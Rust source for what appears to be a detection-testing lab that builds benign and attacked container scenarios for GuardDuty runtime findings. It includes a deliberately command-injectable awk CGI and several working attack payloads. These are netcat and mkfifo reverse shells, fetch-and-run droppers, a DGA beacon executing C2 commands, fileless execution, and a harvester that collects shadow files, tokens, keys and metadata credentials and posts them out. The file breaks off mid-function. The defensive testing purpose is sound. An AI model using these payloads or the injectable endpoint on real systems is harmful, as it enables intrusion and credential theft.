//! The lab's scenarios: what each container runs, as busybox shell, with every parameter
//! (names, ports, paths, process names, timing) drawn from the seed.
//!
//! Attacks are not separate containers: an attack container is the ordinary `web` app (busybox
//! httpd with awk CGI endpoints) whose `/cgi-bin/resolve` endpoint passes its `host` parameter
//! to `system()`. The lab sends it one HTTP request with a command injected into that parameter;
//! everything the attack does then runs under httpd → awk → sh, as in the real thing.

use std::fmt::Write as _;
use std::net::Ipv4Addr;

use super::rng::Rng;

/// Benign scenario types.
pub const BENIGN: &[&str] = &[
    "web",
    "web-client",
    "backup-cron",
    "db-writer",
    "ci-job",
    "build-download",
    "health-checker",
    "dns-heavy",
    "log-shipper",
    "idle-sidecar",
    "pkg-install",
    "metrics-push",
];

/// Attack scenario types and the findings (GuardDuty names, DETECTIONS.md) each must produce.
pub const ATTACKS: &[(&str, &[&str])] = &[
    (
        "miner",
        &[
            "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
            "CryptoCurrency:Runtime/BitcoinTool.B",
            "Impact:Runtime/CryptoMinerExecuted",
            "Execution:Runtime/NewBinaryExecuted",
        ],
    ),
    (
        "c2-dga-beacon",
        &[
            "Trojan:Runtime/DGADomainRequest.C!DNS",
            "Execution:Runtime/NewBinaryExecuted",
        ],
    ),
    ("reverse-shell", &["Execution:Runtime/ReverseShell"]),
    (
        "tor-client",
        &[
            "UnauthorizedAccess:Runtime/TorClient",
            "Execution:Runtime/NewBinaryExecuted",
        ],
    ),
    (
        "fileless",
        &[
            "DefenseEvasion:Runtime/FilelessExecution",
            "Execution:Runtime/NewBinaryExecuted",
        ],
    ),
    ("cred-discovery", &["Discovery:Runtime/SuspiciousCommand"]),
    (
        "docker-socket",
        &[
            "PrivilegeEscalation:Runtime/DockerSocketAccessed",
            "Execution:Runtime/NewBinaryExecuted",
        ],
    ),
    ("kmod-load", &["DefenseEvasion:Runtime/KernelModuleLoaded"]),
];

/// Mining pools the miner is pointed at: real pools' published addresses (the fake resolver
/// answers every name with the lab's address), so its DNS lookup is the one a real miner makes.
pub const POOLS: &[&str] = &[
    "pool.minexmr.com",
    "xmr.2miners.com",
    "pool.supportxmr.com",
    "xmr-eu1.nanopool.org",
    "mine.c3pool.com",
    "gulf.moneroocean.stream",
    "pool.hashvault.pro",
];

/// Port every web container listens on (each on an address of its own, like a pod IP).
pub const WEB_PORT: u16 = 8080;

/// Ports and names of the lab's fake internet (all on `addr`).
#[derive(Clone, Debug)]
pub struct Net {
    /// The loopback address every listener binds and every DNS name resolves to.
    pub addr: Ipv4Addr,
    /// Artifact repository, package mirror, payloads, metadata (HTTP).
    pub http: u16,
    /// Mining pool (Stratum).
    pub pool: u16,
    /// C2 HTTP (beacons).
    pub c2: u16,
    /// Reverse-shell controller.
    pub revshell: u16,
    /// Tor OR port and directory port.
    pub tor_or: u16,
    /// Tor directory port (HTTP).
    pub tor_dir: u16,
    /// Exfiltration drop point (HTTP).
    pub drop: u16,
    /// Back ends: database, cache, log collector (HTTP), metrics gateway (HTTP).
    pub db: u16,
    /// Cache back end.
    pub cache: u16,
    /// Log collector (HTTP).
    pub logs: u16,
    /// Metrics push gateway (HTTP).
    pub metrics: u16,
}

impl Net {
    /// Ports drawn from the seed (pool, C2, reverse shell, Tor and drop ports vary).
    pub fn new(addr: Ipv4Addr, rng: &mut Rng) -> Net {
        let pool = *rng.pick(&[3333, 4444, 5555, 7777, 14444, 45700, 3357]);
        let revshell = *rng.pick(&[1337, 4242, 31337, 9999, 6666, 2222]);
        Net {
            addr,
            http: 80,
            pool,
            c2: *rng.pick(&[8081, 8443, 8888, 4443, 1443]),
            revshell,
            tor_or: *rng.pick(&[9001, 443, 9101]),
            tor_dir: *rng.pick(&[9030, 9131, 8030]),
            drop: *rng.pick(&[8000, 8181, 7070]),
            db: 5432,
            cache: 6379,
            logs: 9200,
            metrics: 9091,
        }
    }
}

/// One container to run.
#[derive(Clone, Debug)]
pub struct Plan {
    /// Scenario type (one of [`BENIGN`] or an attack name).
    pub scenario: String,
    /// `normal` or `attack`.
    pub label: &'static str,
    /// Findings the attack must produce (empty for normal ones).
    pub expected: Vec<String>,
    /// Container name, pod, namespace, image.
    pub name: String,
    /// Kubernetes pod name.
    pub pod: String,
    /// Kubernetes namespace.
    pub namespace: String,
    /// Image reference.
    pub image: String,
    /// The init's shell script.
    pub script: String,
    /// Files in the rootfs: path, contents, mode.
    pub files: Vec<(String, Vec<u8>, u32)>,
    /// Environment of the init.
    pub env: Vec<String>,
    /// Bind the lab's fake docker.sock at /var/run/docker.sock.
    pub docker_sock: bool,
    /// Address its httpd listens on, port [`WEB_PORT`] (web containers).
    pub web_addr: Option<Ipv4Addr>,
    /// The injection: seconds after start, and how it gets in.
    pub injection: Option<(u64, Injection)>,
    /// Files the fake internet must serve for this container (path → body).
    pub serve: Vec<(String, Vec<u8>)>,
    /// More fake-internet listeners this container talks to (port, what listens).
    pub listen: Vec<(u16, Listener)>,
}

/// How an injected command reaches a container.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Injection {
    /// One HTTP request to its web port (`web_addr`): the request target, whose parameter
    /// carries the command (command injection in the app).
    Http(String),
    /// `runc exec` of `/bin/sh -c CMD`: someone with the cluster's credentials runs a command
    /// in the container (`kubectl exec`), an attacker with stolen ones or an operator.
    Exec(String),
}

/// A fake-internet listener a scenario needs beyond the shared ones.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Listener {
    /// A Stratum mining pool.
    Stratum,
    /// The C2's HTTP endpoint (beacons).
    C2,
    /// The artifact site (HTTP GET/POST of served files).
    Http,
}

/// What every scenario generator gets.
pub struct Ctx<'a> {
    /// The fake internet.
    pub net: &'a Net,
    /// Seconds the scenario should keep going.
    pub seconds: u64,
    /// Addresses of the web containers (targets for clients and checkers; port [`WEB_PORT`]).
    pub web_targets: &'a [Ipv4Addr],
    /// Path on the fake internet of busybox (for the fileless payload) and of the static implant.
    pub busybox_url: &'a str,
    /// Path of the implant tool, when one could be built (None: the fileless scenario uses a
    /// deleted file, the docker-socket one only busybox).
    pub implant_url: Option<&'a str>,
    /// The implant tool's bytes (an image may ship it as its own runtime).
    pub implant: Option<&'a [u8]>,
}

pub(crate) fn words(rng: &mut Rng, list: &[&str]) -> String {
    (*rng.pick(list)).to_owned()
}

pub(crate) fn suffix(rng: &mut Rng) -> String {
    format!(
        "{}-{}",
        rng.string("bcdfghjklmnpqrstvwxz2456789", 5),
        rng.string("bcdfghjklmnpqrstvwxz2456789", 5)
    )
}

/// `/bin/nslookup NAME` that leaves the answer's address in `$ip` (the resolver's last
/// `Address` line, without a port).
pub(crate) fn resolve(name: &str) -> String {
    format!(
        "ip=$(/bin/nslookup {name} 2>/dev/null | /bin/awk '/^Address/ {{a=$NF}} END {{print a}}'); ip=${{ip%:*}}"
    )
}

/// URL-encodes a query value (everything but unreserved characters).
pub fn url_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(b as char);
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    out
}

const CATALOG_CGI: &str = r#"#!/bin/awk -f
# catalog: the shop's product search (JSON), reads /var/www/data/catalog.txt
BEGIN {
  q = ENVIRON["QUERY_STRING"]; sub(/^q=/, "", q)
  printf "Content-Type: application/json\r\n\r\n["
  n = 0
  while ((getline line < "/var/www/data/catalog.txt") > 0) {
    if (q == "" || index(line, q)) { if (n++) printf ","; printf "\"%s\"", line }
  }
  print "]"
}
"#;

/// The vulnerable endpoint: `host` goes to system() unescaped (command injection).
const RESOLVE_CGI: &str = r#"#!/bin/awk -f
# resolve: admin tool, "check that a host name resolves"
function hex(h,   i, v) { v = 0; h = toupper(h); for (i = 1; i <= 2; i++) v = v * 16 + index("0123456789ABCDEF", substr(h, i, 1)) - 1; return v }
function dec(s,   out, i, c) { gsub(/\+/, " ", s); out = ""; for (i = 1; i <= length(s); i++) { c = substr(s, i, 1); if (c == "%") { out = out sprintf("%c", hex(substr(s, i + 1, 2))); i += 2 } else out = out c } return out }
BEGIN {
  q = ENVIRON["QUERY_STRING"]; sub(/^host=/, "", q)
  printf "Content-Type: text/plain\r\n\r\n"
  system("/bin/nslookup " dec(q))
}
"#;

const HEALTH_CGI: &str =
    "#!/bin/awk -f\nBEGIN { printf \"Content-Type: text/plain\\r\\n\\r\\nok\\n\" }\n";

/// The web app (benign, or the one an attack gets into).
pub(crate) fn web(rng: &mut Rng, ctx: &Ctx, ip: Ipv4Addr) -> Plan {
    let app = words(rng, &["shop", "storefront", "catalog", "checkout", "blog"]);
    let ns = words(rng, &["shop", "web", "prod", "frontend"]);
    let rotate = rng.range(4, 9);
    let n = ctx.seconds / rotate + 1;
    let mut catalog = String::new();
    for _ in 0..rng.range(20, 60) {
        let _ = writeln!(
            catalog,
            "{}-{}",
            words(rng, &["mug", "shirt", "lamp", "desk", "pen", "bag", "cap"]),
            rng.hex(4)
        );
    }
    let script = format!(
        "/bin/httpd -f -p {ip}:{WEB_PORT} -h /var/www & \
         /bin/mkdir -p /var/log/{app}; \
         for i in $(/bin/seq 1 {n}); do /bin/sleep {rotate}; /bin/date >> /var/log/{app}/access.log; \
         if [ $((i % 5)) -eq 0 ]; then /bin/gzip -f /var/log/{app}/access.log; fi; done"
    );
    Plan {
        scenario: "web".into(),
        label: "normal",
        expected: Vec::new(),
        name: app.clone(),
        pod: format!("{app}-{}", suffix(rng)),
        namespace: ns,
        image: format!(
            "registry.local/{app}/web:{}.{}",
            rng.range(1, 4),
            rng.range(0, 20)
        ),
        script,
        files: vec![
            (
                "/var/www/index.html".into(),
                format!("<h1>{app}</h1>\n").into_bytes(),
                0o644,
            ),
            (
                "/var/www/data/catalog.txt".into(),
                catalog.into_bytes(),
                0o644,
            ),
            (
                "/var/www/cgi-bin/catalog".into(),
                CATALOG_CGI.as_bytes().to_vec(),
                0o755,
            ),
            (
                "/var/www/cgi-bin/health".into(),
                HEALTH_CGI.as_bytes().to_vec(),
                0o755,
            ),
            (
                "/var/www/cgi-bin/resolve".into(),
                RESOLVE_CGI.as_bytes().to_vec(),
                0o755,
            ),
            (
                "/etc/shadow".into(),
                b"root:$6$Qk2w$7aa0c8b2e1f:19700:0:99999:7:::\nwww-data:*:19700:0:99999:7:::\n"
                    .to_vec(),
                0o640,
            ),
            (
                "/run/secrets/kubernetes.io/serviceaccount/token".into(),
                format!("eyJhbGciOiJSUzI1NiJ9.{}.{}", rng.hex(40), rng.hex(40)).into_bytes(),
                0o644,
            ),
        ],
        env: vec![
            format!("DB_PASSWORD={}", rng.hex(16)),
            format!(
                "AWS_ACCESS_KEY_ID=AKIA{}",
                rng.string("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
            ),
            format!("AWS_SECRET_ACCESS_KEY={}", rng.hex(40)),
        ],
        docker_sock: false,
        web_addr: Some(ip),
        injection: None,
        serve: Vec::new(),
        listen: Vec::new(),
    }
}

pub(crate) fn plan(
    rng: &mut Rng,
    scenario: &str,
    app: &str,
    ns: &str,
    image: &str,
    script: String,
) -> Plan {
    Plan {
        scenario: scenario.into(),
        label: "normal",
        expected: Vec::new(),
        name: app.into(),
        pod: format!("{app}-{}", suffix(rng)),
        namespace: ns.into(),
        image: image.into(),
        script,
        files: Vec::new(),
        env: Vec::new(),
        docker_sock: false,
        web_addr: None,
        injection: None,
        serve: Vec::new(),
        listen: Vec::new(),
    }
}

/// A benign container of type `kind`. `ip` is its web address when `kind` is `web`.
pub fn benign(rng: &mut Rng, ctx: &Ctx, kind: &str, ip: Ipv4Addr) -> Plan {
    let a = ctx.net.addr;
    let net = ctx.net;
    let secs = ctx.seconds;
    let target = |rng: &mut Rng| -> String {
        if ctx.web_targets.is_empty() {
            format!("{a}:{}", net.http)
        } else {
            format!("{}:{WEB_PORT}", rng.pick(ctx.web_targets))
        }
    };
    match kind {
        "web" => web(rng, ctx, ip),
        "web-client" => {
            let every = rng.range(1, 3);
            let n = secs / every + 1;
            let (t1, t2) = (target(rng), target(rng));
            let q = words(rng, &["mug", "lamp", "pen", "desk"]);
            let app = words(
                rng,
                &["loadgen", "storefront-bff", "mobile-api", "synthetic-user"],
            );
            plan(
                rng,
                kind,
                &app,
                "shop",
                "registry.local/tools/loadgen:1.4",
                format!(
                    "for i in $(/bin/seq 1 {n}); do /bin/wget -q -O /dev/null http://{t1}/; \
                 /bin/wget -q -O /dev/null 'http://{t2}/cgi-bin/catalog?q={q}'; \
                 if [ $((i % 4)) -eq 0 ]; then /bin/wget -q -O /dev/null http://{t1}/cgi-bin/health; fi; \
                 /bin/sleep {every}; done"
                ),
            )
        }
        "backup-cron" => {
            let every = rng.range(6, 12);
            let n = secs / every + 1;
            let dir = words(rng, &["/data/db", "/var/lib/app", "/srv/uploads"]);
            let app = words(rng, &["backup", "nightly-dump", "snapshotter"]);
            let mut p = plan(
                rng,
                kind,
                &app,
                "ops",
                "registry.local/ops/backup:1.0",
                format!(
                    "/bin/mkdir -p {dir} /backup; for i in $(/bin/seq 1 {n}); do \
                 /bin/cp /etc/passwd {dir}/users.$i; /bin/date > {dir}/stamp; \
                 /bin/tar -cf /backup/b-$i.tar {dir}; /bin/gzip -f /backup/b-$i.tar; \
                 /bin/sha256sum /backup/b-$i.tar.gz > /backup/b-$i.sha256; \
                 /bin/wget -q -O /dev/null --post-file=/backup/b-$i.tar.gz http://{a}:{}/upload/b-$i.tar.gz; \
                 /bin/find /backup -name '*.tar.gz' -mmin +1 -delete; /bin/sleep {every}; done",
                    net.http
                ),
            );
            p.files
                .push((format!("{dir}/seed.dat"), rng.hex(2048).into_bytes(), 0o644));
            p
        }
        "db-writer" => {
            let every = rng.range(1, 3);
            let n = secs / every + 1;
            let name = words(rng, &["orders-db", "inventory-db", "sessions-store"]);
            plan(
                rng,
                kind,
                &name,
                "data",
                "registry.local/data/minidb:3.2",
                format!(
                    "/bin/mkdir -p /var/lib/db; seg=0; for i in $(/bin/seq 1 {n}); do \
                 /bin/dd if=/dev/urandom of=/var/lib/db/page.tmp bs=4096 count=$((i % 7 + 1)) 2>/dev/null; \
                 /bin/cat /var/lib/db/page.tmp >> /var/lib/db/wal.$seg; /bin/sync; \
                 if [ $((i % 10)) -eq 0 ]; then /bin/mv /var/lib/db/wal.$seg /var/lib/db/seg.$seg; \
                 /bin/sort /etc/passwd | /bin/uniq > /var/lib/db/index.$seg; seg=$((seg + 1)); \
                 /bin/rm -f /var/lib/db/seg.$((seg - 3)); fi; /bin/sleep {every}; done"
                ),
            )
        }
        "ci-job" => {
            let every = rng.range(2, 5);
            let n = secs / every + 1;
            let proj = words(rng, &["api", "frontend", "billing", "search"]);
            let mut p = plan(
                rng,
                kind,
                &format!("ci-{proj}"),
                "ci",
                "registry.local/ci/runner:5",
                format!(
                    "/bin/mkdir -p /work/src /work/out; for i in $(/bin/seq 1 {n}); do \
                 /bin/ls /bin > /work/src/files; /bin/grep -c sh /work/src/files > /dev/null; \
                 /bin/sort /work/src/files | /bin/uniq | /bin/wc -l > /work/out/count; \
                 /bin/sed 's/a/b/g' /work/src/files > /work/out/sed; /bin/awk '{{n++}} END {{print n}}' /work/out/sed > /dev/null; \
                 /bin/cp /work/out/sed /work/out/sed.$i; /bin/diff /work/out/sed /work/src/files > /dev/null; \
                 /bin/find /work -type f | /bin/head -n 50 > /dev/null; /bin/md5sum /work/out/* > /dev/null; \
                 /bin/uname -a > /dev/null; /bin/expr $i + 1 > /dev/null; /bin/rm -f /work/out/sed.$((i - 2)); \
                 /bin/sleep {every}; done"
                ),
            );
            p.files.push((
                "/work/src/main.c".into(),
                b"int main(void) { return 0; }\n".to_vec(),
                0o644,
            ));
            p
        }
        "build-download" => {
            let ver = format!(
                "{}.{}.{}",
                rng.range(1, 3),
                rng.range(0, 9),
                rng.range(0, 20)
            );
            let tool = words(rng, &["protoc-gen", "assetpack", "schemagen"]);
            let url = format!("/artifacts/{tool}-{ver}.sh");
            let body = format!(
                "#!/bin/sh\n# {tool} {ver}: bundles the build's assets\n/bin/mkdir -p /build/out\n\
                 /bin/tar -cf /build/out/assets.tar /build/src 2>/dev/null\n/bin/gzip -f /build/out/assets.tar\n\
                 /bin/sha256sum /build/out/assets.tar.gz > /build/out/assets.sha256\n"
            );
            let every = rng.range(5, 10);
            let n = secs / every + 1;
            let mut p = plan(
                rng,
                kind,
                &format!("build-{tool}"),
                "ci",
                "registry.local/ci/builder:2",
                format!(
                    "/bin/mkdir -p /opt/build/bin /build/src; /bin/cp /etc/passwd /build/src/; \
                 /bin/wget -q -O /opt/build/bin/{tool} http://{a}:{}{url}; /bin/chmod 755 /opt/build/bin/{tool}; \
                 for i in $(/bin/seq 1 {n}); do /opt/build/bin/{tool} --out /build/out; /bin/sleep {every}; done",
                    net.http
                ),
            );
            p.serve.push((url, body.into_bytes()));
            p
        }
        "health-checker" => {
            let every = rng.range(1, 3);
            let n = secs / every + 1;
            let targets: Vec<String> = (0..rng.range(2, 4)).map(|_| target(rng)).collect();
            let mut probes = String::new();
            for t in &targets {
                let _ = write!(
                    probes,
                    "/bin/wget -q -O /dev/null http://{t}/cgi-bin/health; "
                );
            }
            let _ = write!(
                probes,
                "echo PING | /bin/nc -w 1 {a} {} > /dev/null; echo | /bin/nc -w 1 {a} {} > /dev/null; ",
                net.cache, net.db
            );
            let app = words(
                rng,
                &["blackbox-exporter", "uptime-probe", "health-checker"],
            );
            plan(
                rng,
                kind,
                &app,
                "monitoring",
                "registry.local/mon/probe:3",
                format!("for i in $(/bin/seq 1 {n}); do {probes}/bin/sleep {every}; done"),
            )
        }
        "dns-heavy" => {
            let every = rng.range(1, 3);
            let n = secs / every + 1;
            let svcs = [
                "orders",
                "payments",
                "inventory",
                "users",
                "search",
                "cart",
                "auth",
                "mail",
            ];
            let mut lookups = String::new();
            for _ in 0..rng.range(3, 5) {
                let svc = rng.pick(&svcs);
                let ns = rng.pick(&["shop", "data", "platform"]);
                let _ = write!(
                    lookups,
                    "/bin/nslookup {svc}.{ns}.svc.cluster.local > /dev/null 2>&1; "
                );
            }
            let _ = write!(
                lookups,
                "{}; echo x | /bin/nc -w 1 $ip {} > /dev/null; ",
                resolve("redis.data.svc.cluster.local"),
                net.cache
            );
            let app = words(
                rng,
                &["service-mesh-resolver", "api-gateway", "discovery-agent"],
            );
            plan(
                rng,
                kind,
                &app,
                "platform",
                "registry.local/platform/gateway:7",
                format!("for i in $(/bin/seq 1 {n}); do {lookups}/bin/sleep {every}; done"),
            )
        }
        "log-shipper" => {
            let every = rng.range(3, 6);
            let n = secs / every + 1;
            let app = words(rng, &["fluent-bit", "vector", "filebeat"]);
            plan(
                rng,
                kind,
                &app,
                "logging",
                &format!("registry.local/logging/{app}:2"),
                format!(
                    "/bin/mkdir -p /var/log/app /var/spool/ship; for i in $(/bin/seq 1 {n}); do \
                 /bin/date >> /var/log/app/app.log; /bin/tail -n 20 /var/log/app/app.log > /var/spool/ship/batch.$i; \
                 /bin/gzip -f /var/spool/ship/batch.$i; \
                 /bin/wget -q -O /dev/null --post-file=/var/spool/ship/batch.$i.gz http://{a}:{}/_bulk; \
                 /bin/rm -f /var/spool/ship/batch.$i.gz; /bin/sleep {every}; done",
                    net.logs
                ),
            )
        }
        "idle-sidecar" => {
            let app = words(
                rng,
                &["istio-proxy", "linkerd-proxy", "vault-agent", "pause"],
            );
            plan(
                rng,
                kind,
                &app,
                "shop",
                &format!("registry.local/mesh/{app}:1.9"),
                format!("/bin/sleep {}", secs + 30),
            )
        }
        "pkg-install" => {
            let pkg = words(rng, &["jq", "curl", "ca-certificates", "tzdata", "libyaml"]);
            let ver = format!(
                "{}.{}-r{}",
                rng.range(1, 9),
                rng.range(0, 9),
                rng.range(0, 5)
            );
            let mut tarball = Vec::new();
            {
                // A real tar.gz built on the host side is overkill: ship a tar of one script.
                let body = format!("#!/bin/sh\necho {pkg} {ver}\n");
                tarball.extend_from_slice(body.as_bytes());
            }
            let url = format!("/repo/x86_64/{pkg}-{ver}.apk");
            let every = rng.range(4, 8);
            let n = secs / every + 1;
            let mut p = plan(
                rng,
                kind,
                &format!("{pkg}-installer"),
                "platform",
                "registry.local/base/alpine-ish:3.19",
                format!(
                    "/bin/wget -q -O /tmp/APKINDEX http://{a}:{}/repo/x86_64/APKINDEX; \
                 /bin/wget -q -O /tmp/{pkg}.apk http://{a}:{}{url}; /bin/sha256sum /tmp/{pkg}.apk > /tmp/{pkg}.sum; \
                 /bin/mkdir -p /usr/local/bin /usr/share/{pkg}; /bin/cp /tmp/{pkg}.apk /usr/local/bin/{pkg}; \
                 /bin/chmod 755 /usr/local/bin/{pkg}; /bin/rm -f /tmp/{pkg}.apk; \
                 for i in $(/bin/seq 1 {n}); do /usr/local/bin/{pkg} > /usr/share/{pkg}/out; /bin/sleep {every}; done",
                    net.http, net.http
                ),
            );
            p.serve.push((url, tarball));
            p
        }
        "metrics-push" => {
            let every = rng.range(2, 5);
            let n = secs / every + 1;
            let job = words(rng, &["batch-metrics", "node-stats", "queue-depth"]);
            plan(
                rng,
                kind,
                &job,
                "monitoring",
                "registry.local/mon/pusher:0.9",
                format!(
                    "for i in $(/bin/seq 1 {n}); do /bin/cat /proc/loadavg > /tmp/m; /bin/cat /proc/meminfo | /bin/head -n 3 >> /tmp/m; \
                 /bin/wget -q -O /dev/null --post-file=/tmp/m http://{a}:{}/metrics/job/{job}; /bin/sleep {every}; done",
                    net.metrics
                ),
            )
        }
        _ => web(rng, ctx, ip),
    }
}

/// Payload for a shell stand-in of a tool (written, chmod-ed and executed inside the container).
pub(crate) fn script_body(lines: &str) -> Vec<u8> {
    format!("#!/bin/sh\n{lines}\n").into_bytes()
}

/// An attacked web container: the benign `web` app plus one injected request.
pub fn attack(rng: &mut Rng, ctx: &Ctx, kind: &str, ip: Ipv4Addr) -> Plan {
    let mut p = web(rng, ctx, ip);
    let net = ctx.net;
    let a = net.addr;
    let h = net.http;
    p.scenario = kind.into();
    p.label = "attack";
    p.expected = ATTACKS
        .iter()
        .find(|(k, _)| *k == kind)
        .map(|(_, f)| f.iter().map(|s| s.to_string()).collect())
        .unwrap_or_default();
    // Not /dev/shm: container runtimes mount it noexec.
    let dir = words(
        rng,
        &[
            "/tmp/.x",
            "/var/tmp/.cache",
            "/var/tmp/.font-unix",
            "/tmp/.ICE-unix/.s",
        ],
    );
    let name = words(
        rng,
        &[
            "kworker",
            "kdevtmpfsi",
            "systemd-logind",
            ".sysupdate",
            "dbus-daemon",
            "kthreaddi",
        ],
    );
    let drop = format!("/{}/{}", rng.hex(6), rng.hex(8));
    let rounds = (ctx.seconds / 10).clamp(2, 12);
    let id = rng.hex(8);
    let fetch_and_run = |url: &str, args: &str| {
        format!(
            "/bin/mkdir -p {dir}; /bin/wget -q -O {dir}/{name} http://{a}:{h}{url}; /bin/chmod +x {dir}/{name}; {dir}/{name} {args}"
        )
    };
    let payload = match kind {
        "miner" => {
            let pool = words(rng, POOLS);
            let wallet = format!(
                "4{}",
                rng.string(
                    "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz",
                    94
                )
            );
            let body = format!(
                "# stand-in for xmrig: resolves the pool, logs in over Stratum, burns CPU\n\
                 pool=''; user=''\nwhile [ $# -gt 0 ]; do case \"$1\" in -o) pool=$2; shift 2;; -u) user=$2; shift 2;; *) shift;; esac; done\n\
                 host=${{pool%:*}}; port=${{pool##*:}}\n{}\n\
                 for r in $(/bin/seq 1 {rounds}); do\n\
                 (echo '{{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"mining.subscribe\",\"params\":[\"XMRig/6.21.0\"]}}'; /bin/sleep 1; \
                 echo \"{{\\\"id\\\":2,\\\"jsonrpc\\\":\\\"2.0\\\",\\\"method\\\":\\\"login\\\",\\\"params\\\":{{\\\"login\\\":\\\"$user\\\",\\\"pass\\\":\\\"x\\\",\\\"agent\\\":\\\"XMRig/6.21.0\\\"}}}}\"; /bin/sleep 1; \
                 echo '{{\"id\":3,\"jsonrpc\":\"2.0\",\"method\":\"submit\",\"params\":{{\"job_id\":\"bf\",\"nonce\":\"0001a2b3\",\"result\":\"00\"}}}}'; /bin/sleep 3) | /bin/nc $ip $port > /dev/null\n\
                 i=0; while [ $i -lt 20000 ]; do i=$((i+1)); done\ndone",
                resolve("$host")
            );
            p.serve.push((drop.clone(), script_body(&body)));
            fetch_and_run(
                &drop,
                &format!(
                    "-o {pool}:{} -u {wallet} -p x --donate-level 1 -B",
                    net.pool
                ),
            )
        }
        "c2-dga-beacon" => {
            let word = rng.hex(6);
            let tld = words(rng, &["top", "xyz", "info", "biz", "club"]);
            let len = rng.range(12, 20);
            let body = format!(
                "# beacon: domain generation, check-in, run what the C2 says\n\
                 for i in $(/bin/seq 1 {rounds}); do\n\
                 for j in 1 2 3 4 5; do d=$(echo {word}$i$j | /bin/md5sum | /bin/tr 0-9 g-p | /bin/cut -c1-{len}); {}; done\n\
                 cmd=$(/bin/wget -q -O- http://$ip:{}/b/{id}); out=$(/bin/sh -c \"$cmd\" 2>&1 | /bin/head -c 2000)\n\
                 /bin/wget -q -O /dev/null --post-data \"$out\" http://$ip:{}/r/{id}\n/bin/sleep {}\ndone",
                resolve(&format!("$d.{tld}")),
                net.c2,
                net.c2,
                rng.range(2, 5)
            );
            p.serve.push((drop.clone(), script_body(&body)));
            fetch_and_run(&drop, "")
        }
        "reverse-shell" => {
            if rng.chance(0.5) {
                format!("/bin/nc {a} {} -e /bin/sh", net.revshell)
            } else {
                format!(
                    "/bin/rm -f /tmp/.p; /bin/mkfifo /tmp/.p; /bin/cat /tmp/.p | /bin/sh -i 2>&1 | /bin/nc {a} {} > /tmp/.p",
                    net.revshell
                )
            }
        }
        "tor-client" => {
            let tor = words(rng, &["tor", "torproxy", ".tor-daemon"]);
            let body = format!(
                "# stand-in for a Tor client: SOCKS listener on 9050, bootstraps via Dir and OR ports\n\
                 /bin/nc -l -p 9050 {ip} > /dev/null 2>&1 < /dev/null &\n\
                 for i in $(/bin/seq 1 {rounds}); do\n\
                 /bin/wget -q -O /dev/null http://{a}:{}/tor/status-vote/current/consensus\n\
                 (printf '\\026\\003\\001\\000\\310\\001\\000\\000\\304\\003\\003'; /bin/sleep 2) | /bin/nc {a} {} > /dev/null\n\
                 /bin/sleep 2\ndone\nkill $! 2>/dev/null",
                net.tor_dir, net.tor_or
            );
            p.serve.push((drop.clone(), script_body(&body)));
            format!(
                "/bin/mkdir -p {dir}; /bin/wget -q -O {dir}/{tor} http://{a}:{h}{drop}; /bin/chmod +x {dir}/{tor}; {dir}/{tor} -f {dir}/torrc"
            )
        }
        "fileless" => {
            let beacon = format!(
                "for i in $(seq 1 {rounds}); do wget -q -O /dev/null http://{a}:{}/b/{id}; sleep 3; done",
                net.c2
            );
            match ctx.implant_url {
                Some(implant) if rng.chance(0.6) => format!(
                    "/bin/mkdir -p {dir}; /bin/wget -q -O {dir}/{name} http://{a}:{h}{implant}; /bin/chmod +x {dir}/{name}; \
                     /bin/wget -q -O- http://{a}:{h}{} | {dir}/{name} mem {} sh -c '{beacon}'",
                    ctx.busybox_url,
                    words(rng, &["x", "jit-cache", "pulse", ".font"]),
                ),
                _ => format!(
                    "/bin/mkdir -p {dir}; /bin/wget -q -O {dir}/{name} http://{a}:{h}{}; /bin/chmod +x {dir}/{name}; \
                     exec 3< {dir}/{name}; /bin/rm -f {dir}/{name}; exec -a sh /proc/self/fd/3 -c '{beacon}'",
                    ctx.busybox_url
                ),
            }
        }
        "cred-discovery" => {
            let body = format!(
                "for p in /proc/[0-9]*; do /bin/cat $p/environ; echo; done > /tmp/.env 2>/dev/null\n\
                 /bin/env >> /tmp/.env; /bin/cat /etc/shadow /etc/passwd > /tmp/.pw 2>/dev/null\n\
                 /bin/cat /run/secrets/kubernetes.io/serviceaccount/token > /tmp/.tok 2>/dev/null\n\
                 /bin/find / -xdev \\( -name '*.pem' -o -name 'id_rsa*' -o -name '*.key' -o -name credentials -o -name '.git-credentials' \\) 2>/dev/null > /tmp/.found\n\
                 /bin/grep -r -l -i 'password\\|secret' /etc /var/www 2>/dev/null >> /tmp/.found\n\
                 {}\n/bin/wget -q -O /tmp/.md --header 'Metadata-Flavor: Google' http://$ip/computeMetadata/v1/instance/service-accounts/default/token\n\
                 /bin/tar -czf /tmp/.loot.tgz /tmp/.env /tmp/.pw /tmp/.tok /tmp/.found /tmp/.md 2>/dev/null\n\
                 /bin/wget -q -O /dev/null --post-file=/tmp/.loot.tgz http://{a}:{}/upload/{id}\n/bin/rm -f /tmp/.env /tmp/.pw /tmp/.tok /tmp/.found /tmp/.md /tmp/.loot.tgz",
                resolve("metadata.google.internal"),
                net.drop
            );
            p.serve.push((drop.clone(), body.into_bytes()));
            format!("/bin/wget -q -O- http://{a}:{h}{drop} | /bin/sh")
        }
        "docker-socket" => {
            p.docker_sock = true;
            match ctx.implant_url {
                Some(implant) => format!(
                    "/bin/ls -la /var/run/docker.sock; /bin/mkdir -p {dir}; /bin/wget -q -O {dir}/{name} http://{a}:{h}{implant}; \
                     /bin/chmod +x {dir}/{name}; {dir}/{name} dock /var/run/docker.sock"
                ),
                None => {
                    "/bin/ls -la /var/run/docker.sock; /bin/cat /var/run/docker.sock".to_owned()
                }
            }
        }
        "kmod-load" => {
            let module = words(
                rng,
                &["diamorphine", "reptile", "nfs_helper", "snd_pcm_oss2"],
            );
            let mut ko =
                b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x3e\x00".to_vec();
            ko.extend_from_slice(rng.hex(512).as_bytes());
            p.serve.push((drop.clone(), ko));
            format!(
